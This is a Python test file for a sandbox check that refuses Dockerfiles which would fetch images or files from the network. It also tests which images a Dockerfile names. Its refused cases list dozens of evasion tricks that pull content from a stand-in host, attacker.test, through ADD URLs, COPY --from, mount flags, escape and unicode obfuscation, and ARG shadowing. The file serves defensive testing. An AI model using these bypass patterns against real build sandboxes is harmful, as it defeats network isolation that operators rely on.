"""Which images a Dockerfile names; with a narrowed network, the engine fetches nothing for a project's Dockerfile."""

import pytest

from runbook_runner.core.errors import NotReadyError
from runbook_runner.sandbox.images.fetches import images_of, refuse_fetches

HERE = ("debian:12", "own/base")


def refuse(text: str, **arguments: str) -> None:
    refuse_fetches(text.encode(), arguments, lambda name: name in HERE, "mine/Dockerfile")


@pytest.mark.parametrize(
    "text",
    [
        "FROM scratch\nCOPY a /a\n",
        "# comment\nARG V=12\nFROM debian:${V} AS build\nFROM build\nCOPY --from=build /a /a\nCOPY --from=0 /b /b\n",
        "from \\\n  # between\n  debian:12 as One\nFROM One\nCOPY --from=One --chown=1:1 /a /a\n",
        "ARG BASE_IMAGE=snapshot:other\nFROM ${BASE_IMAGE}\nADD a.tar /\n",
        "FROM debian:12\nRUN curl https://example.test\n",
        "FROM debian:12\nRUN --mount=type=cache,target=/c --network=none pip install --from=x $Y\n",
        "ARG V='12'\nARG UNSET\nFROM debian:$V\nARG A=1 B='2 3'\n",
    ],
)
def test_what_the_engine_has_is_fine(text: str) -> None:
    refuse(text, BASE_IMAGE="own/base")


@pytest.mark.parametrize(
    "text",
    [
        "FROM attacker.test/x\n",
        "FROM attacker.test/x \\",
        "FROM debian:12\nADD http://attacker.test/x /x \\\n# the end\n\n",
        "FROM debian:12\nRUN --network=host x \\\n",
        "FROM scratch AS attacker.test/x\nCOPY --from=attacker.test/x /a /a\n",
        "FROM scratch AS a/b\n",
        "FROM scratch AS busybox\nCOPY --from=busybox /a /a\n",
        "FROM scratch\nCOPY --from=0 /a /a\n",
        "ARG X=attacker.test/x\nFROM $X\n",
        "FROM debian:12\nCOPY --from=attacker.test/x /a /a\n",
        "FROM debian:12\nCOPY --from=$X /a /a\n",
        "FROM debian:12\nADD https://attacker.test/x /x\n",
        'FROM debian:12\nadd ["https://attacker.test/x", "/x"]\n',
        "FROM debian:12\nADD \\\nhttp\\\n://attacker.test/x /x\n",
        "FROM debian:12\nENV U=https://attacker.test\nADD $U /x\n",
        "FROM debian:12\nADD git@github.com:a/b.git /x\n",
        "FROM debian:12\nONBUILD ONBUILD ADD https://attacker.test/x /x\n",
        "FROM --platform=linux/arm64 debian:12\n",
        "FROM ${X:-attacker.test/x}\n",
        "ARG X=debian:12\nARG X=attacker.test/x\nFROM $X\n",
        'FROM debian:12\nADD ["http:\\/\\/attacker.test/x", "/x"]\n',
        'FROM debian:12\nADD ["http:\\u002f/attacker.test/x", "/x"]\n',
        'FROM debian:12\nADD http:"//"attacker.test/x /x\n',
        "FROM debian:12\nADD http:\\//attacker.test/x /x\n",
        'FROM debian:12\nCOPY --"from"=attacker.test/x /a /a\n',
        "FROM debian:12\nCOPY --fr\\om=attacker.test/x /a /a\n",
        "FROM debian:12\nADD x\x0bhttps://attacker.test/x /x\n",
        "FROM debian:12\nADD x \\\n\x1c# no comment, to the engine https://attacker.test/x /x\n",
        "FROM debian:12\nADD x \\\r\nhttps://attacker.test/x /x\n",
        "FROM debian:12\nENV X=a\\\\\nADD https://attacker.test/x /x\n",
        "FROM debian:12\nRUN a \\\r\r\nFROM debian:12 AS attacker.test/x\nCOPY --from=attacker.test/x /a /a\n",
        f"FROM debian:12\nCOPY --from={'9' * 20} /a /a\n",
        "FROM 12\n",
        "FROM debian:12\nFROM 0\n",
        "ARG X=debian:12\nARG A=1 X=attacker.test/x\nFROM $X\n",
        "ARG X=debian:12\nARG A X=attacker.test/x\nFROM $X\n",
        'ARG X=debian:12\nARG X""=attacker.test/x\nFROM $X\n',
        "ARG X=debian:12\nARG \\X=attacker.test/x\nFROM $X\n",
        "ARG X=debian:12\nONBUILD ARG X=attacker.test/x\nARG X=attacker.test/x\nFROM $X\n",
        "ARG X=attacker.test/x\nFROM debian:12 AS scratch\nARG X=debian:12\nFROM $X\n",
        "ARG 1attacker=debian:12\nFROM $1attacker\n",
        "ARG X=own\nFROM $Xé/base\n",
        "FROM debian:12\nRUN <<'x\\'\nRUN x\\\nADD https://attacker.test/x /x\n",
        "FROM debian:12\nCOPY <<'' /a\nRUN x \\\n\nADD https://attacker.test/x /x\n",
        "FROM debian:12\nRUN --network=none --mount=type=bind,from=attacker.test/x,target=/m true\n",
        'FROM debian:12\nRUN --mount="type=bind,fr"om=attacker.test/x,target=/m true\n',
        "FROM debian:12\nRUN --network=none --network=host true\n",
        "FROM debian:12\nONBUILD RUN --network=default true\n",
        "FROM debian:12\nENV X=mount=type=bind,from=attacker.test/x,target=/m\nONBUILD RUN --$X true\n",
        "ARG X=attacker.test/x\nARG X=debian:12\nFROM $X\n",
        "ARG X=attacker.test/\nARG X\nFROM ${X}debian:12\n",
        "ARG X\nFROM ${X}debian:12\n",
        "ARG TARGETARCH=12\nFROM debian:$TARGETARCH\n",
        "ARG BUILDOS=12\nFROM debian:$BUILDOS\n",
        "FROM debian:12\nCOPY --from$EMPTY=attacker.test/x /a /a\n",
        "FROM debian:12\nCOPY --from${EMPTY}=attacker.test/x /a /a\n",
        "FROM debian:12\nCOPY --chown=1:1 --$F /a /a\n",
        'FROM debian:12\nCOPY --"from"$EMPTY=attacker.test/x /a /a\n',
        "FROM debian:12\nCOPY --fromage=attacker.test/x /a /a\n",
        "FROM debian:12 AS Busybox\nFROM busybox\n",
        "FROM debian:12 AS Busybox\nFROM debian:12\nCOPY --from=busybox /a /a\n",
        "FROM debian:12 AS Busybox\nFROM debian:12 AS busybox\nFROM Busybox\n",
        "FROM Scratch\n",
        "ARG V=" + "x" * 10_000 + "\nFROM " + "$V" * 10_000 + "\n",
        "FROM debian:12\n" * 1001,
        "FROM debian:12 AS a\nONBU\u0130LD ADD https://attacker.test/x /x\nFROM a\n",
        "FROM .\n",
        "FROM debian:12\nCOPY --from=-1 /a /a\n",
        "# escape=`\nFROM debian:12\nADD htt`\nps://attacker.test/x /x\n",
    ],
)
def test_what_it_would_fetch_is_refused_with_the_way_out(text: str) -> None:
    with pytest.raises(NotReadyError) as caught:
        refuse(text)
    assert "runbook snapshots build" in str(caught.value)


@pytest.mark.parametrize(
    ("text", "images"),
    [
        ("FROM scratch\nCOPY a /a\n", {"scratch"}),
        ("ARG V=12\nFROM --platform=linux/arm64 debian:$V AS one\nFROM one\nCOPY --from=0 / /\n", {"debian:12"}),
        ("ARG BASE_IMAGE=snapshot:x\nFROM ${BASE_IMAGE}\nCOPY --chown=1:1 --from=a/b /a /a\n", {"own/base", "a/b"}),
        ("FROM a AS b\nCOPY --from=b /a /a\nRUN --mount=type=bind,from=c,target=/c true\n", {"a", "c"}),
        ("FROM $UNKNOWN\nRUN echo --from=x\n", set()),
        ("ARG V=" + "x" * 10_000 + "\nFROM " + "$V" * 10_000 + "\n", set()),
    ],
)
def test_the_images_that_a_dockerfile_names_are_found(text: str, images: set[str]) -> None:
    assert images_of(text.encode(), {"BASE_IMAGE": "own/base"}) == images
